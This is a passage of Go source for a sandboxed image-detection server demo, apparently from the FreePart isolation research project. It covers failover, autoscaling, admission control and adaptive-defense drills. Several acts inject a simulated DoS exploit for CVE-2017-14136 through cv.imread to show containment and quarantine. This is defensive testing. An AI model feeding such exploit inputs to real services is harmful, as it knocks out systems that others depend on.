		ex.SetHealthPolicy(core.HealthPolicy{FailThreshold: 1})
		ex.SetGray(gray)
		ex.SetHedge(hedge)
		results := srv.ServeSeq(reqs)
		fmt.Printf("served %d/%d requests across %d shards\n", apps.Served(results), len(reqs), ex.Shards())
		return ex
	}

	// Fault-free calibration pass: an inert scorer (ratio beyond any healthy
	// deviation) harvests per-shard service-time EWMAs without judging.
	cal := run(false, core.GrayPolicy{Ratio: 1e9, Baseline: 1}, core.HedgePolicy{})
	var baseline vclock.Duration
	for _, g := range cal.GrayScores() {
		if g.EWMA > baseline {
			baseline = g.EWMA
		}
	}
	hedgeDelay := core.DeriveHedgeDelay(cal.Latencies(), 95, baseline)
	baseP99 := cal.Latencies().P99()
	cal.Close()
	if baseline <= 0 {
		log.Fatal("gray calibration produced no service-time baseline")
	}
	fmt.Printf("calibrated fault-free: service baseline %v, hedge delay %v, p99 %v\n", baseline, hedgeDelay, baseP99)
	fmt.Printf("gray drill: shard %d alive but %gx slow, scoring + hedging armed\n", slowID, factor)

	ex := run(true, core.GrayPolicy{Ratio: 3, Baseline: baseline}, core.HedgePolicy{Delay: hedgeDelay})
	defer ex.Close()
	for _, ev := range ex.FailoverEventsFor(slowID) {
		fmt.Printf("  [%v] shard %d gen %d: %s %s\n", ev.At, ev.Shard, ev.Gen, ev.Kind, ev.Detail)
	}
	lat := ex.Latencies()
	fmt.Printf("virtual latency: p50=%v p95=%v p99=%v\n", lat.P50(), lat.P95(), lat.P99())
	printGraySummary(ex)
	fmt.Printf("added p99 after mitigation: %v (fault-free %v, gray %v)\n", lat.P99()-baseP99, baseP99, lat.P99())
}

// printGraySummary appends the gray-failure lines to a serving summary:
// per-shard suspicion scores and the hedge race counters. It prints nothing
// when the gray layer never engaged, so acts that don't arm scoring or
// hedging stay unchanged.
func printGraySummary(ex *core.Executor) {
	m := ex.Metrics().Snapshot()
	scores := ex.GrayScores()
	active := m.Hedges > 0 || m.GrayDrains > 0
	for _, g := range scores {
		if g.Samples > 0 || g.Suspect || g.Drains > 0 {
			active = true
		}
	}
	if !active {
		return
	}
	fmt.Println("suspicion scores:")
	for _, g := range scores {
		fmt.Printf("  %s\n", g)
	}
	fmt.Printf("hedges: %d launched, %d won, %d cancelled, %v extra shard time\n",
		m.Hedges, m.HedgeWins, m.HedgeCancels, m.HedgeWork)
}

// serveStream provisions a fresh executor, serves reqs, and prints the
// serving summary. With kill set, the shard killID is scheduled to die at
// virtual time killAt into the run. Returns the executor (caller closes) and
// the observed p99.
func serveStream(shards int, reqs []apps.DetectionRequest, killID int, killAt vclock.Duration, kill bool) (*core.Executor, vclock.Duration) {
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	ex, err := core.NewExecutor(shards, core.ProtectedShards(reg, cat, core.Default()))
	if err != nil {
		log.Fatal(err)
	}
	srv, err := apps.ProvisionDetection(ex)
	if err != nil {
		log.Fatal(err)
	}
	st := ex.Store().Stats()
	fmt.Printf("model interned: %d build(s) serving %d shards read-only\n", st.Builds, ex.Shards())
	// Measure the serving window, not the (identical per shard) boot cost.
	for i := 0; i < ex.Shards(); i++ {
		ex.Shard(i).K.Clock.Reset()
	}
	if kill {
		ex.SetHealthPolicy(core.HealthPolicy{FailThreshold: 1})
		ex.ScheduleKill(killID, killAt)
	}

	results := srv.Serve(reqs)
	byClass := map[string]int{}
	for _, r := range results {
		if r.Err != nil {
			fmt.Printf("user %d: request failed (%s)\n", r.User, short(r.Err))
			byClass[core.ErrClass(r.Err)]++
		}
	}
	printClassSummary(byClass)
	lat := ex.Latencies()
	crit := ex.CriticalPath()
	fmt.Printf("served %d/%d requests across %d shards\n", apps.Served(results), len(reqs), ex.Shards())
	fmt.Printf("virtual latency: p50=%v p95=%v p99=%v\n", lat.P50(), lat.P95(), lat.P99())
	if crit > 0 {
		fmt.Printf("critical path: %v (%.1f requests per virtual second, parallelism %.2f)\n",
			crit, float64(len(reqs))/crit.Seconds(), float64(ex.TotalWork())/float64(crit))
	}
	printGraySummary(ex)
	return ex, lat.P99()
}

// serveAutoscale runs the control-plane act: the stateful tracking ramp
// (base clients for the whole run, burst clients joining mid-run and
// leaving early) served by a pool the sched controller scales between 2
// and max shards, with least-loaded placement and batched admission.
func serveAutoscale(max int) {
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	ex, err := core.NewExecutor(2, core.ProtectedShards(reg, cat, core.Default()))
	if err != nil {
		log.Fatal(err)
	}
	defer ex.Close()
	srv := apps.ProvisionTracking(ex)
	// Measure the serving window, not the (identical per shard) boot cost;
	// shards the controller grows mid-run do pay their boot on the timeline.
	for i := 0; i < ex.Shards(); i++ {
		ex.Shard(i).K.Clock.Reset()
	}
	ctl := sched.New(ex, sched.DefaultPolicy(2, max), nil)

	streams := apps.GenRampStreams(11, 4, 10, 128)
	results := srv.ServeRamp(streams, ctl, ctl.Batch())
	served := 0
	for _, r := range results {
		if r.Err != nil {
			fmt.Printf("stream %d: failed (%s)\n", r.User, short(r.Err))
			continue
		}
		served++
	}

	m := ex.Metrics().Snapshot()
	lat := ex.Latencies()
	crit := ex.CriticalPath()
	fmt.Printf("served %d/%d streams; pool peaked at %d shards (floor 2, ceiling %d)\n",
		served, len(streams), ctl.PeakShards(), max)
	fmt.Printf("scale-ups: %d, scale-downs: %d, rebalances: %d, batched %d requests into %d admissions\n",
		m.ScaleUps, m.ScaleDowns, m.Rebalances, m.BatchedRequests, m.BatchedAdmissions)
	fmt.Printf("virtual latency: p50=%v p95=%v p99=%v\n", lat.P50(), lat.P95(), lat.P99())
	fmt.Printf("shard-seconds: %v over a %v critical path (fixed n=%d would burn %v)\n",
		ex.ShardSeconds(crit), crit, max, vclock.Duration(int64(max)*int64(crit)))
	fmt.Println("decision log (replayable, byte-equal across runs):")
	for _, ev := range ctl.Events() {
		fmt.Printf("  %s\n", ev)
	}
}

// serveOverload runs the overload-protection act: a two-tenant tracking
// load (4:1 stream skew at equal weight) offered at factor× the pool's
// calibrated capacity, served under a bounded admission queue with deadline
// shedding and weighted-fair-queueing admission order. Overload becomes
// explicit typed rejections instead of unbounded queue wait, and WFQ makes
// the heavy tenant's excess — not the light tenant's trickle — absorb them.
func serveOverload(shards, factor int) {
	initCost, stepCost, err := report.CalibrateTracking()
	if err != nil {
		log.Fatal(err)
	}
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	ex, err := core.NewExecutor(shards, core.ProtectedShards(reg, cat, core.Default()))
	if err != nil {
		log.Fatal(err)
	}
	defer ex.Close()
	srv := apps.ProvisionTracking(ex)
	// Measure the serving window, not the (identical per shard) boot cost.
	for i := 0; i < ex.Shards(); i++ {
		ex.Shard(i).K.Clock.Reset()
	}

	const steps = 64
	heavy, light := 4*shards, shards
	perShard := (heavy + light) / shards
	pol := core.AdmissionPolicy{QueueLimit: 3, Deadline: 2 * stepCost}
	ex.SetAdmission(pol)
	// gap = perShard·stepCost/factor offers exactly factor× pool capacity;
	// warm lets every shard finish its session inits before measuring.
	gap := stepCost * vclock.Duration(perShard) / vclock.Duration(factor)
	warm := initCost * vclock.Duration(perShard+1)
	streams := apps.GenTenantStreams(17, heavy, light, steps, gap, warm)
	results := srv.ServeRampOpts(streams, apps.RampOptions{
		TolerateShed: true,
		Orderer:      &sched.WFQ{Quantum: 5 * stepCost / 4},
	})

	admitted, dropped := 0, 0
	for _, r := range results {
		admitted += r.Steps
		dropped += r.Dropped
		if r.Err != nil {
			fmt.Printf("stream %d: failed (%s)\n", r.User, short(r.Err))
		}
	}
	m := ex.Metrics().Snapshot()
	lat := ex.Latencies()
	fmt.Printf("offered %d steps at %dx capacity (queue limit %d, deadline %v)\n",
		(heavy+light)*steps, factor, pol.QueueLimit, pol.Deadline)
	fmt.Printf("admitted %d, shed %d\n", admitted, dropped)
	printClassSummary(map[string]int{
		core.ErrClass(core.ErrOverloaded):       int(m.Rejected),
		core.ErrClass(core.ErrDeadlineExceeded): int(m.DeadlineShed),
	})
	for _, t := range ex.TenantLoads() {
		fmt.Printf("tenant %d (weight %d): served %d, rejected %d, deadline-shed %d\n",
			t.Tenant, t.Weight, t.Served, t.Rejected, t.Shed)
	}
	fmt.Printf("admitted-request latency: p50=%v p99=%v (bounded by queue limit x service time at any factor)\n",
		lat.P50(), lat.P99())
}

// serveIsolation runs the tiered-isolation act: the detection stream served
// with every request crossing all four API types (load, detect, annotate,
// show, store), so the policy's tier assignments all show up in the critical
// path, followed by the mechanism-cost summary per tier.
func serveIsolation(shards, requests int, pol *isolation.Policy) {
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	ex, err := core.NewExecutor(shards, core.ProtectedShards(reg, cat, core.ConfigForIsolation(pol)))
	if err != nil {
		log.Fatal(err)
	}
	defer ex.Close()

	typeNames := map[framework.APIType]string{
		framework.TypeLoading:     "loading",
		framework.TypeProcessing:  "processing",
		framework.TypeVisualizing: "visualizing",
		framework.TypeStoring:     "storing",
	}
	fmt.Printf("policy %s:", pol.Name)
	for _, t := range framework.ConcreteTypes() {
		fmt.Printf(" %s=%s", typeNames[t], pol.TierOf(t))
	}
	fmt.Println()

	models := make([]core.Handle, ex.Shards())
	for i := 0; i < ex.Shards(); i++ {
		sh := ex.Shard(i)
		sh.K.FS.WriteFile("/srv/model.xml", simcv.EncodeClassifier(150, 4))
		h, _, err := sh.Ex.Call("cv.CascadeClassifier", framework.Str("/srv/model.xml"))
		if err != nil || len(h) == 0 {
			log.Fatalf("shard %d model load: %v", i, err)
		}
		models[i] = h[0]
		// Measure the serving window, not the (identical per shard) boot cost.
		sh.K.Clock.Reset()
	}

	reqs := apps.GenDetectionRequests(11, requests)
	served := 0
	for i := range reqs {
		rq := reqs[i]
		err := ex.Session().Do(func(sh *core.Shard) error {
			path := fmt.Sprintf("/srv/req-%d.img", i)
			sh.K.FS.WriteFile(path, rq.Body)
			img, _, err := sh.Ex.Call("cv.imread", framework.Str(path))
			if err != nil {
				return err
			}
			if _, _, err := sh.Ex.Call("cv.CascadeClassifier.detectMultiScale",
				models[sh.ID].Value(), img[0].Value()); err != nil {
				return err
			}
			boxed, _, err := sh.Ex.Call("cv.rectangle", img[0].Value())
			if err != nil {
				return err
			}
			if _, _, err := sh.Ex.Call("cv.imshow", framework.Str("srv"), boxed[0].Value()); err != nil {
				return err
			}
			_, _, err = sh.Ex.Call("cv.imwrite",
				framework.Str(fmt.Sprintf("/srv/out-%d.img", i)), boxed[0].Value())
			return err
		})
		if err != nil {
			fmt.Printf("user %d: request failed (%s)\n", rq.User, short(err))
			continue
		}
		served++
	}

	cost := ex.Shard(0).K.Cost
	var sw, cp, cpB, gr, grB uint64
	for i := 0; i < ex.Shards(); i++ {
		if rt := ex.Shard(i).Rt; rt != nil {
			m := rt.Metrics.Snapshot()
			sw += m.DomainSwitches
			cp += m.DomainCopies
			cpB += m.DomainCopyBytes
			gr += m.DomainGrants
			grB += m.DomainGrantBytes
		}
	}
	lat := ex.Latencies()
	crit := ex.CriticalPath()
	fmt.Printf("served %d/%d requests across %d shards\n", served, len(reqs), ex.Shards())
	fmt.Printf("virtual latency: p50=%v p95=%v p99=%v; critical path: %v\n",
		lat.P50(), lat.P95(), lat.P99(), crit)
	fmt.Println("per-tier mechanism costs:")
	fmt.Printf("  process: %v IPC round trip + %.2f ns/B marshalled copy + restartable crash\n",
		cost.IPCRoundTrip, float64(cost.CopyPerBytePS)/1000)
	fmt.Printf("  domain:  %v WRPKRU-class switch per entry/exit + %.2f ns/B in-space copy, shared host fate\n",
		cost.DomainSwitch, float64(cost.DomainCopyPerBytePS)/1000)
	fmt.Printf("  host:    zero cost, zero containment\n")
	fmt.Printf("domain traffic this run: %d switches, %d copies (%d B), %d read-only grants (%d B)\n",
		sw, cp, cpB, gr, grB)
}

// serveDefense runs the adaptive-defense act: a session-sharded detection
// pool built over core.DynamicShards so re-binds pick up the defense
// controller's live policy, starting at the cheap erim floor. One attacker
// tenant lands an imread DoS exploit (the first sighting — at the domain
// tier the shard's host dies and the pool fails over), then the reconcile
// barrier arms the signature blocklist, quarantines the tenant, and
// escalates the hit API type to the process tier. Every later move is a
// typed front-door rejection: the repeat exploit is attack-blocked, the
// quarantined tenant's benign traffic is refused at admission, and honest
// traffic keeps flowing until the clean window anneals the policy back.
func serveDefense(shards, requests int) {
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	floor := isolation.ERIM()
	var ctl *defense.Controller
	factory := core.DynamicShards(reg, cat, func() core.Config {
		p := floor
		if ctl != nil {
			p = ctl.Policy()
		}
		return core.ConfigForIsolation(p)
	}, nil)
	ex, err := core.NewExecutor(shards, factory)
	if err != nil {
		log.Fatal(err)
	}
	defer ex.Close()
	// Tiny windows on purpose: barriers only run between demo waves, and
	// one wave is more virtual time than either window, so the whole
	// escalate-quarantine-anneal-release arc fits in one run.
	ctl = defense.New(ex, defense.Params{
		Floor:            floor,
		CleanWindow:      vclock.Duration(10 * time.Microsecond),
		QuarantineWindow: vclock.Duration(10 * time.Microsecond),
	})
	ex.SetAdmissionGate(ctl.Gate())
	srv, err := apps.ProvisionDetection(ex)
	if err != nil {
		log.Fatal(err)
	}
	alog := &attack.Log{}
	arm := func(sh *core.Shard) { ctl.Arm(sh, alog.Handler()) }
	for i := 0; i < ex.Shards(); i++ {
		arm(ex.Shard(i))
	}
	ex.SetOnReplace(func(sh *core.Shard) error {
		if err := srv.Reload(sh); err != nil {
			return err
		}
		arm(sh)
		return nil
	})
	fmt.Printf("floor policy %s, defense controller armed on %d shards\n", floor.Name, ex.Shards())

	reqs := apps.GenDetectionRequests(11, requests)
	wave := func(name string) {
		results := srv.Serve(reqs)
		fmt.Printf("%s: served %d/%d requests\n", name, apps.Served(results), len(reqs))
	}
	const cveID = "CVE-2017-14136"
	const attacker = 66
	byClass := map[string]int{}
	attackOnce := func(label string) {
		if err := ctl.Screen(cveID); err != nil {
			byClass[core.ErrClass(err)]++
			fmt.Printf("attacker %s: %s\n", label, core.ErrClass(err))
			return
		}
		sess := ex.SessionFor(attacker, 1)
		defer sess.Finish()
		shardID, hostDied := -1, false
		err := sess.Do(func(sh *core.Shard) error {
			shardID = sh.ID
			sh.K.FS.WriteFile("/srv/evil.img", attack.DoS(cveID))
			_, _, callErr := sh.Ex.Call("cv.imread", framework.Str("/srv/evil.img"))
			if sh.Rt != nil {
				hostDied = !sh.Rt.Host.Alive()
				if !hostDied {
					_ = sh.Rt.RestartDead()
				}
			}
			return callErr
		})
		if err != nil {
			byClass[core.ErrClass(err)]++
			fmt.Printf("attacker %s: %s\n", label, core.ErrClass(err))
		} else {
			fmt.Printf("attacker %s: landed\n", label)
		}
		if hostDied && shardID >= 0 {
			ex.KillShard(shardID, cveID+" killed the host")
			fmt.Printf("  shard %d host killed by the exploit; next admission fails it over\n", shardID)
		}
	}
	benignOnce := func(label string) {
		sess := ex.SessionFor(attacker, 1)
		defer sess.Finish()
		err := sess.Do(func(sh *core.Shard) error {
			sh.K.FS.WriteFile("/srv/attacker.img", reqs[0].Body)
			_, _, err := sh.Ex.Call("cv.imread", framework.Str("/srv/attacker.img"))
			return err
		})
		if err != nil {
			byClass[core.ErrClass(err)]++
			fmt.Printf("attacker %s: %s\n", label, core.ErrClass(err))
		} else {
			fmt.Printf("attacker %s: served\n", label)
		}
	}
	barrier := func() { ctl.Tick(ex.CriticalPath()) }

	wave("steady wave")
	barrier()
	attackOnce("first exploit")
	barrier()
	attackOnce("repeat exploit")
	benignOnce("benign request while quarantined")
	wave("pressure wave (escalated tiers)")
	barrier()
	wave("post-anneal wave")
	barrier()
	benignOnce("benign request after release")

	printClassSummary(byClass)
	st := ctl.Stats()
	fmt.Printf("sightings %d (%d watchdog), escalations %d, anneals %d, quarantines %d, releases %d, rebinds %d\n",
		st.Sightings, st.WatchdogTrips, st.Escalations, st.Anneals, st.Quarantines, st.Releases, st.Rebinds)
	fmt.Printf("policy back at floor: %v\n", ctl.Policy().Equal(ctl.Floor()))
	fmt.Println("decision log (replayable, byte-equal across runs):")
	for _, ev := range ctl.Events() {
		fmt.Printf("  %s\n", ev)
	}
}

// printClassSummary prints a per-class failure tally ("failures by class:
// deadline=12 overloaded=30"), classes sorted for stable output. Classes
// with a zero count and empty tallies print nothing.
func printClassSummary(byClass map[string]int) {
	classes := make([]string, 0, len(byClass))
	for c := range byClass {
		if byClass[c] > 0 {
			classes = append(classes, c)
		}
	}
	if len(classes) == 0 {
		return
	}
	sort.Strings(classes)
	fmt.Printf("failures by class:")
	for _, c := range classes {
		fmt.Printf(" %s=%d", c, byClass[c])
	}
	fmt.Println()
}

func short(err error) string {
	s := err.Error()
	if len(s) > 48 {
		s = s[:48] + "..."
	}
	return s
}

// servePartition runs the partition-plane act: a Zipf-skewed population of
// returning users served on a range-partitioned keyed data plane with
// placement memory. Pass one (melt) pins every partition to its home shard,
// so the Zipf head's range concentrates its mass there and queues; pass two
// serves the identical stream with a mid-window rebalance drill — split the
// hot partition at its observed load midpoint, migrate the upper half's
// live resident sessions to the last shard, revoke the moved range's stale
// traces — and must change no served byte.
func servePartition(shards, requests, parts int, skew float64) {
	visits := requests * 20
	if visits < 400 {
		visits = 400
	}
	users := visits
	if parts < shards {
		parts = shards
	}
	topo := sched.Topology{ShardsPerSocket: shards / 2}
	cost := vclock.Default()
	stream := apps.GenPartitionVisitsSpaced(5, users, visits, skew, 6*time.Microsecond)
	keys := make([]uint64, len(stream))
	for i, v := range stream {
		keys[i] = v.Key
	}
	hot := workload.Hottest(keys, 32)

	run := func(drill bool) ([]apps.PartitionResult, *core.Executor, int, uint64) {
		meta := partition.New(partition.Range, parts, uint64(users))
		for i := range meta.Parts {
			meta.Prefer(i, i%shards)
		}
		mem := partition.NewMemory()
		ex, err := core.NewExecutor(shards, core.DirectShards(all.Registry()))
		if err != nil {
			log.Fatal(err)
		}
		defer ex.Close()
		sched.New(ex, sched.Policy{MinShards: shards, MaxShards: shards},
			sched.PartitionAware{Meta: meta, Memory: mem, Topo: topo, SpillThreshold: 4 * len(hot)})
		srv := apps.NewPartitionServer(ex, apps.PartitionConfig{
			Meta: meta, Memory: mem, Cost: cost,
			WorkingSet: 32 << 10, Compute: 2 << 10, Class: "visit",
		})
		srv.Resident(hot)
		moved := 0
		var splitKey uint64
		drillAt := -1
		var hook func()
		if drill {
			drillAt = len(stream) / 2
			hook = func() {
				hp := hottestPartition(meta)
				p := meta.Parts[hp]
				splitKey = observedMedian(stream[:drillAt], p.Lo, p.Hi)
				_, n, derr := sched.RebalancePartitionAt(ex, meta, mem, topo, cost,
					hp, splitKey, shards-1, 32<<10)
				if derr != nil {
					log.Fatalf("rebalance drill: %v", derr)
				}
				moved = n
			}
		}
		results := srv.ServeVisits(stream, drillAt, hook)
		srv.FinishResident()
		lat := ex.Latencies()
		warm, cold := mem.Stats()
		label := "hot-range melt"
		if drill {
			label = "melt + rebalance"
		}
		fmt.Printf("%-16s warm %d / cold %d (%.1f%% warm), p50=%v p95=%v p99=%v\n",
			label, warm, cold, 100*mem.HitRatio(), lat.P50(), lat.P95(), lat.P99())
		return results, ex, moved, splitKey
	}

	melt, _, _, _ := run(false)
	rebal, ex, moved, splitKey := run(true)

	same := len(melt) == len(rebal)
	for i := 0; same && i < len(melt); i++ {
		same = melt[i].Key == rebal[i].Key && melt[i].Value == rebal[i].Value &&
			(melt[i].Err == nil) == (rebal[i].Err == nil)
	}
	m := ex.Metrics().Snapshot()
	fmt.Printf("drill: split hot partition at key %d (observed load midpoint), moved %d live sessions to shard %d, splits recorded %d\n",
		splitKey, moved, shards-1, m.PartitionSplits)
	fmt.Printf("served results byte-equal with and without the drill: %v\n", same)
	if !same {
		log.Fatal("the rebalance drill changed served results; the drill must be control-plane only")
	}
}

// hottestPartition returns the partition with the most recorded sessions.
func hottestPartition(meta *partition.Meta) int {
	best, bestN := 0, -1
	for _, p := range meta.Parts {
		if p.Sessions > bestN {
			best, bestN = p.ID, p.Sessions
		}
	}
	return best
}

// observedMedian returns the smallest key in [lo,hi) with at least half the
// range's observed visit mass at or below it — the data-median split point a
// range-sharded store would pick. Falls back to the key midpoint when the
// range was never visited.
func observedMedian(visits []apps.PartitionVisit, lo, hi uint64) uint64 {
	counts := make(map[uint64]int)
	total := 0
	for _, v := range visits {
		if v.Key >= lo && v.Key < hi {
			counts[v.Key]++
			total++
		}
	}
	if total == 0 {
		return lo + (hi-lo)/2
	}
	acc := 0
	for k := lo; k < hi; k++ {
		acc += counts[k]
		if acc*2 >= total {
			if k+1 >= hi {
				return lo + (hi-lo)/2
			}
			return k + 1
		}
	}
	return lo + (hi-lo)/2
}
