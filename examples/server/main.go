// Detection server (§4.4.2, §5.3): a long-running service that detects
// objects in images submitted by remote users. Servers prioritize
// availability, so FreePart's restart supervisor revives crashed agents
// and the service keeps answering.
//
// The demo submits requests from three users; user 2 is malicious (a DoS
// exploit in the loading path). Unprotected, the service dies at request 2
// and users 3+ get nothing. Under FreePart, request 2 fails alone, the
// loading agent restarts, and every other user is served — and the
// malicious request cannot read the earlier users' images (other users'
// inputs are sensitive, §5.3).
//
//	go run ./examples/server
package main

import (
	"fmt"
	"log"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/framework/simcv"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/workload"
)

func main() {
	fmt.Println("=== unprotected server ===")
	serve(false)
	fmt.Println()
	fmt.Println("=== FreePart server ===")
	serve(true)
}

// request is one user's submission.
type request struct {
	user int
	body []byte
}

func serve(protected bool) {
	k := kernel.New()
	reg := all.Registry()
	var ex core.Executor
	var rt *core.Runtime
	if protected {
		cat := analysis.New(reg, nil).Categorize()
		var err error
		rt, err = core.New(k, reg, cat, core.Default())
		if err != nil {
			log.Fatal(err)
		}
		defer rt.Close()
		ex = rt
	} else {
		ex = core.NewDirect(k, reg)
	}
	alog := &attack.Log{}
	if rt != nil {
		rt.OnExploit = alog.Handler()
	} else {
		ex.(*core.Direct).Ctx.OnExploit = alog.Handler()
	}

	// The detection model.
	k.FS.WriteFile("/srv/model.xml", simcv.EncodeClassifier(150, 4))
	model, _, err := ex.Call("cv.CascadeClassifier", framework.Str("/srv/model.xml"))
	if err != nil {
		log.Fatal(err)
	}

	// Incoming requests: users 1, 3, 4 honest; user 2 malicious.
	gen := workload.New(11)
	reqs := []request{
		{1, gen.EncodedImage(16, 16, 1)},
		{2, attack.DoS("CVE-2017-14136")},
		{3, gen.EncodedImage(16, 16, 1)},
		{4, gen.EncodedImage(16, 16, 1)},
	}

	served := 0
	for i, rq := range reqs {
		path := fmt.Sprintf("/srv/req-%d.img", i)
		k.FS.WriteFile(path, rq.body)
		img, _, err := ex.Call("cv.imread", framework.Str(path))
		if err != nil {
			fmt.Printf("user %d: request failed (%s)\n", rq.user, short(err))
			if rt != nil {
				// The availability-first policy (§4.4.2): restart and go on.
				if rerr := rt.RestartDead(); rerr != nil {
					log.Fatal(rerr)
				}
			}
			continue
		}
		_, plain, err := ex.Call("cv.CascadeClassifier.detectMultiScale", model[0].Value(), img[0].Value())
		if err != nil {
			fmt.Printf("user %d: detection failed (%s)\n", rq.user, short(err))
			continue
		}
		fmt.Printf("user %d: %d objects detected\n", rq.user, plain[0].Int)
		served++
	}
	fmt.Printf("served %d/%d users\n", served, len(reqs))
	alive := true
	if rt != nil {
		alive = rt.Host.Alive()
	} else {
		alive = ex.(*core.Direct).Proc.Alive()
	}
	fmt.Printf("service process alive: %v\n", alive)
}

func short(err error) string {
	s := err.Error()
	if len(s) > 48 {
		s = s[:48] + "..."
	}
	return s
}
